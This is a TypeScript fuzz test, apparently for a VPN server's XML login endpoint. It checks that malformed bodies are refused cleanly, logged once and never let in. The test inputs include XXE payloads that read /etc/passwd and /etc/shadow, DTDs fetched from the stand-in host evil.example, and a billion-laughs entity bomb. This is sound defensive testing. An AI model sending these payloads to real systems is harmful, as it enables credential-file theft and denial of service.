// Malformed login bodies against the running server: the client is shown the form again (or the connection ends), one
// clear line at level info (2) says what was wrong, and nobody else notices.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { seeded } from '../support/seeded.ts';
import { Siege } from '../support/siege.ts';

interface Input {
  readonly name: string;
  readonly body: Buffer;
  readonly contentType?: string;
}

const input = (name: string, body: string | Buffer, contentType?: string): Input => ({
  name,
  body: typeof body === 'string' ? Buffer.from(body) : body,
  ...(contentType === undefined ? {} : { contentType }),
});
const prolog = '<?xml version="1.0" encoding="UTF-8"?>';
const sound = `${prolog}<config-auth client="vpn" type="auth-reply"><auth><username>mallory</username><password>secret</password></auth></config-auth>`;
const auth = (inner: string): string =>
  `${prolog}<config-auth client="vpn" type="auth-reply"><auth>${inner}</auth></config-auth>`;

const types = [
  ['internal subset', '<!DOCTYPE a [<!ENTITY e "v">]>'],
  ['external subset', '<!DOCTYPE a SYSTEM "file:///etc/passwd">'],
  ['public subset', '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://evil.example/x.dtd">'],
  ['parameter entity', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>'],
  ['external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/shadow">]>'],
  [
    'a billion laughs',
    `<!DOCTYPE a [<!ENTITY l0 "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${String(i + 1)} "${`&l${String(i)};`.repeat(10)}">`).join('')}]>`,
  ],
  ['empty', '<!DOCTYPE a>'],
].map(([name, type]) => input(`document type: ${name}`, `${prolog}${type}<a><username>&x;</username></a>`));

const references = [
  ...[
    '&e;',
    '&',
    '&;',
    '& ',
    '&#;',
    '&#x;',
    '&#0;',
    '&#x0;',
    '&#xD800;',
    '&#x110000;',
    '&#99999999999;',
    '&#-1;',
    '&#xZZ;',
  ],
  ...[
    '&lt',
    '&constructor;',
    '&__proto__;',
    '&toString;',
    '&amp&amp;',
    '&xxe;',
    '&#x1F;',
    '&#xFFFF;',
    '&lt;&oops;',
  ],
].map((text) => input(`reference ${text}`, auth(`<username>a${text}</username>`)));

const structure = [
  ['nothing but the mark', '<?xml'],
  ['nothing but a prolog', prolog],
  ['two prologs', `${prolog}${prolog}<a/>`],
  ['no version', '<?xml?><a/>'],
  ['version one', '<?xml version="one"?><a/>'],
  ['unknown encoding', '<?xml version="1.0" encoding="1 2"?><a/>'],
  ['two roots', `${sound}<b/>`],
  ['text behind the root', `${sound}text`],
  ['text before the root', `${prolog}text<a/>`],
  ['crossed tags', `${prolog}<a><b></a></b>`],
  ['a close without open', `${prolog}</a>`],
  ['an open tag cut off', `${prolog}<a`],
  ['no end tag', sound.replace('</auth></config-auth>', '')],
  ['no last character', sound.slice(0, -1)],
  ['a tag of nothing', `${prolog}<></>`],
  ['a tag of digits', `${prolog}<1a/>`],
  ['a blank in a tag', `${prolog}< a/>`],
  ['an attribute without value', `${prolog}<a b/>`],
  ['an unquoted attribute', `${prolog}<a b=c/>`],
  ['an attribute twice', `${prolog}<a b="1" b="2"/>`],
  ['a tag in an attribute', `${prolog}<a b="<"/>`],
  ['attributes without blank', `${prolog}<a b="1"c="2"/>`],
  ['an attribute without end', `${prolog}<a b="1`],
  ['a comment without end', `${prolog}<a><!-- b</a>`],
  ['two dashes in a comment', `${prolog}<a><!-- b -- c --></a>`],
  ['CDATA without end', `${prolog}<a><![CDATA[ b</a>`],
  ['CDATA before the root', `${prolog}<![CDATA[x]]><a/>`],
  ['an end of CDATA alone', `${prolog}<a>]]></a>`],
  ['an instruction without end', `${prolog}<a><?b</a>`],
  ['an instruction named xml', `${prolog}<a><?xml ?></a>`],
  ['a NUL', auth('<username>a\0b</username>')],
  ['a NUL in a name', `${prolog}<a\0/>`],
  ['a control character', auth('<username>a\x01b</username>')],
  ['a noncharacter', auth('<username>a\ufffeb</username>')],
  ['a lone slash', `${prolog}</>`],
  ['brackets', `${prolog}<<<<>>>>`],
  ['a marked section', `${prolog}<a><![INCLUDE[x]]></a>`],
].map(([name, text]) => input(`structure: ${String(name)}`, String(text)));

const sizes = [
  input('17 levels', auth('<a>'.repeat(15) + '</a>'.repeat(15))),
  input('10000 levels', prolog + '<a>'.repeat(10_000)),
  input('80000 levels of one letter', prolog + '<a>'.repeat(80_000)),
  input('1001 elements', auth('<a/>'.repeat(1001))),
  input('a name of 5000 bytes', auth(`<username>${'u'.repeat(5000)}</username>`)),
  input('a password of 200 KB', auth(`<password>${'p'.repeat(200_000)}</password>`)),
  input('a password of references', auth(`<password>${'&#65;'.repeat(20_000)}</password>`)),
  input('CDATA of 100 KB', auth(`<password><![CDATA[${'c'.repeat(100_000)}]]></password>`)),
  input('a tag of 100 KB that nobody closes', `${prolog}<${'t'.repeat(100_000)}>`),
  input('an attribute of 200 KB that nobody closes', `${prolog}<a b="${'v'.repeat(200_000)}`),
  input('a body of one byte too many', Buffer.alloc(262_145, 0x61)),
  input('a body of 1 MB', Buffer.alloc(1024 * 1024, 0x20)),
];

const encodings = [
  input('UTF-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(sound, 'utf16le')])),
  input('UTF-16 that says it is', Buffer.from(sound.replace('UTF-8', 'UTF-16'), 'utf16le')),
  input('Latin-1', Buffer.from(auth('<username>m\xfcller</username>'), 'latin1')),
  input('an overlong slash', Buffer.concat([Buffer.from(`${prolog}<a>`), Buffer.from([0xc0, 0xaf])])),
  input('half a character', Buffer.concat([Buffer.from(`${prolog}<a>`), Buffer.from([0xe2, 0x82])])),
  input('a surrogate', Buffer.concat([Buffer.from(`${prolog}<a>`), Buffer.from([0xed, 0xa0, 0x80])])),
  input(
    'beyond Unicode',
    Buffer.concat([Buffer.from(`${prolog}<a>`), Buffer.from([0xf5, 0x80, 0x80, 0x80])]),
  ),
  input('EBCDIC', Buffer.from('4c6fa79493', 'hex')),
];

const forms = [
  input('JSON', '{"username": "mallory", "password": "secret"}', 'application/json'),
  input('JSON that says it is a form', '["username"]', 'application/x-www-form-urlencoded'),
  input(
    'multipart',
    '--b\r\nContent-Disposition: form-data; name="x"\r\n\r\ny\r\n--b--',
    'multipart/form-data; boundary=b',
  ),
  input('HTML', '<html><body>hello</body></html>', 'text/html'),
  input('plain text', 'let me in please', 'text/plain'),
  input('YAML', 'login:\n  - user\n', 'application/yaml'),
  input('NULs', Buffer.alloc(64), 'application/octet-stream'),
  input('an XML that calls itself JSON', `${prolog}<a>`, 'application/json'),
  ...['%', '%4', '%zz', '%c3', '%ff', '%00%', '%u0041'].map((escape) =>
    input(`escape ${escape}`, `username=mallory&password=${escape}`, 'application/x-www-form-urlencoded'),
  ),
  input('escape in the name of the user', 'username=%&x=y', 'application/x-www-form-urlencoded'),
  input('300 fields', 'a=b&'.repeat(300), 'application/x-www-form-urlencoded'),
  input('a name of 5000 bytes in a form', `username=${'u'.repeat(5000)}`),
  input('a password of 5000 bytes in a form', `password=${'p'.repeat(5000)}`),
];

const random = seeded(815);
/** Sound documents with bytes that no XML may have, at random places. */
const broken = Array.from({ length: 20 }, (_, index) => {
  const body = Buffer.from(sound);
  const from = prolog.length;
  for (let count = 1 + random.below(4); count > 0; count--) {
    body[from + random.below(body.length - from)] = random.pick([0x00, 0x01, 0x0b, 0xff, 0xc0]);
  }
  return input(`broken ${String(index)}`, body);
});

async function post(siege: Siege, one: Input, address: string, hasLine: () => boolean): Promise<void> {
  const socket = siege.outpost.tls(address);
  let answer = '';
  let hasEnded = false;
  socket.setEncoding('latin1').on('data', (text: string) => (answer += text));
  for (const event of ['end', 'close', 'error']) socket.once(event, () => (hasEnded = true));
  socket.write(
    `POST /auth HTTP/1.1\r\nHost: vpn.test\r\nUser-Agent: AnyConnect Linux_64 4.10\r\nContent-Length: ${String(one.body.length)}\r\n` +
      `Content-Type: ${one.contentType ?? 'application/xml; charset=utf-8'}\r\n\r\n`,
  );
  socket.write(one.body);
  const isDone = (): boolean => hasEnded || answer.includes('</config-auth>') || answer.includes(' 401 ');
  for (let waited = 0; waited < 150 && !(isDone() && hasLine()); waited++) await sleep(20);
  socket.destroy();
  assert.doesNotMatch(answer, /Set-Cookie: webvpn=[^;]/, `${one.name} was let in`);
  // The form again, a refusal, or an end without an answer: never an error of ours.
  assert.doesNotMatch(answer, /HTTP\/1\.1 5/, one.name);
}

test('malformed login bodies leave one line each, quote nothing and disturb nobody', async () => {
  await using siege = await Siege.begin();
  const inputs = [...types, ...references, ...structure, ...sizes, ...encodings, ...forms, ...broken];
  assert.ok(inputs.length >= 100);
  await siege.expectOneLineEach(inputs, (one, address, hasLine) => post(siege, one, address, hasLine), {
    clear:
      /^worker: 10\.80\.1\.\d+ (?:malformed login request: [a-z0-9].{6,}|login refused: No password \(.{6,}\)|closing the connection: body too long)$/,
    // The security module and main speak of logins that were tried; these are none.
    counts: (line) => line.startsWith('worker'),
  });
  assert.doesNotMatch(siege.site.log(), /hunter|secret|pppp|evil\.example/, 'the log quotes the client');
  await siege.endure();
});
